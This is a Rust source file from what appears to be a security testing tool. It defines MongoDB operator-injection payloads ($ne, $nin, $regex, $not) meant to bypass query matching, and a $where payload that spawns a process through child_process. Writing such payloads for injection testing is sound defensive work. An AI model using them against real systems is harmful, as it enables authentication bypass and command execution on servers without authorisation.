//! Payloads for MongoDB queries: an operator where the function expects a plain value.
//!
//! They are JSON values, because an operator is a member and no text can be one. A form such as
//! `user[$ne]=` becomes the same value in the hands of `qs`.

use super::{Effect, Form, Payload, PayloadClass};

const fn mongo(id: &'static str, template: &'static str, why: &'static str) -> Payload {
    Payload::new(PayloadClass::MongoOperator, id, template, Effect::Query, why).formed(Form::Json)
}

/// Best first.
pub(super) const PAYLOADS: &[Payload] = &[
    mongo("mongo-ne", r#"{"$ne":"{C}"}"#, "every document differs from the nonce"),
    mongo("mongo-nin", r#"{"$nin":["{C}"]}"#, "the same, for those who refuse $ne"),
    mongo("mongo-regex", r#"{"$regex":"^(?!{C})"}"#, "every text that does not begin with the nonce"),
    mongo("mongo-not", r#"{"$not":{"$eq":"{C}"}}"#, "every document that does not equal the nonce"),
    Payload::new(
        PayloadClass::MongoOperator,
        "mongo-where",
        r#"{"$where":"(process.getBuiltinModule||(m=>process.mainModule.require(m)))('child_process').spawnSync('{C}')"}"#,
        Effect::Command,
        "$where is JavaScript, which some in-memory queries evaluate in the function itself",
    )
    .formed(Form::Json),
];
